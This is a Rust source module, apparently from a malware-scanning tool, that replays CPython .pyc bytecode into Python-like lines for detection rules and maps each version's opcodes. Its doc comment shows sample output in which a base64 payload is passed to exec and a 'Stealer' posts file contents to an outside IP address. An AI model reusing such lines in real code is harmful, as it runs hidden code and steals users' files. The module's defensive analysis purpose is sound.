//! CPython bytecode, read back into Python-like statements that the Python rules read.
//!
//! Each code object (the module, every class body, function, lambda and comprehension)
//! is replayed on a symbolic stack, as the .NET and JVM readers do, and every statement
//! it ends in is written as the line of source it was compiled from would read:
//!
//! ```text
//! # code <module>
//! import base64
//! exec(base64.b64decode("aW1wb3J0IG9z..."))
//! # code Stealer.run
//! requests.post("http://203.0.113.9/c", data=open(p, "rb").read())
//! ```
//!
//! Names are what the code names (globals, attributes, locals); there is no data flow
//! beyond the stack, so `x = f(); g(x)` reads as two lines, as in source. Control flow
//! is read straight through: a condition is written as `if cond:`, and after a jump or
//! a return the stack is reset, each call it held still written. Any call the code makes
//! is in the view at least once.

mod opcodes;
mod pyc;
mod replay;

use crate::{Format, View};

pub(crate) use pyc::is_pyc;

/// What an instruction does, as far as the replay distinguishes; the opcode numbers of
/// each version map to these in `opcodes`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Op {
    Other,
    Nop,
    Append,
    BeforeWith,
    Binary(&'static str),
    BinaryOperator,
    BinarySlice,
    BinarySubscr,
    Build(Seq),
    BuildConstKeyMap,
    BuildMap,
    BuildSlice,
    BuildString,
    Call,
    CallFunction,
    CallFunctionEx,
    CallFunctionKw,
    CallKw,
    Compare,
    Copy,
    DeleteAttr,
    DeleteSubscr,
    DupTop,
    DupTopTwo,
    Extend,
    ExtendedArg,
    ForIter,
    FormatSimple,
    FormatValue,
    FormatWithSpec,
    ImportFrom,
    ImportName,
    ImportStar,
    Jump,
    JumpIfOrPop,
    KwNames,
    LoadAssertionError,
    LoadAttr,
    LoadBuildClass,
    LoadConst,
    LoadDeref,
    LoadFast,
    LoadFastLoadFast,
    LoadFromDictOrDeref,
    LoadFromDictOrGlobals,
    LoadGlobal,
    LoadLocals,
    LoadMethod,
    LoadName,
    LoadSuperAttr,
    MakeFunction,
    MapAdd,
    PopJumpIf,
    PopTop,
    PushNull,
    Raise,
    Reraise,
    ReturnConst,
    ReturnValue,
    RotFour,
    RotThree,
    RotTwo,
    SetFunctionAttribute,
    StoreAttr,
    StoreDeref,
    StoreFast,
    StoreFastLoadFast,
    StoreFastStoreFast,
    StoreName,
    StoreSlice,
    StoreSubscr,
    Swap,
    Unary(&'static str),
    UnpackEx,
    UnpackSequence,
    YieldValue,
}

/// The kind of sequence a `BUILD_*` instruction makes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Seq {
    Tuple,
    List,
    Set,
}

/// The meaning of every opcode of `version`.
fn opcode_table(version: pyc::Version) -> [Op; 256] {
    let listed = match version {
        306 => opcodes::V36,
        307 => opcodes::V37,
        308 => opcodes::V38,
        309 => opcodes::V39,
        310 => opcodes::V310,
        311 => opcodes::V311,
        312 => opcodes::V312,
        _ => opcodes::V313,
    };
    let mut table = [Op::Other; 256];
    for &(number, op) in listed {
        table[usize::from(number)] = op;
    }
    table
}

/// The view of a `.pyc` file.
pub(crate) fn read(data: &[u8]) -> Result<View, String> {
    let (version, module) = pyc::read(data)?;
    let mut view = View::new(Format::Pyc);
    view.line(&format!(
        "# Python {}.{} bytecode",
        version / 100,
        version % 100
    ));
    replay::write(
        &module,
        version,
        &opcode_table(version),
        data.len(),
        &mut view,
    );
    Ok(view)
}
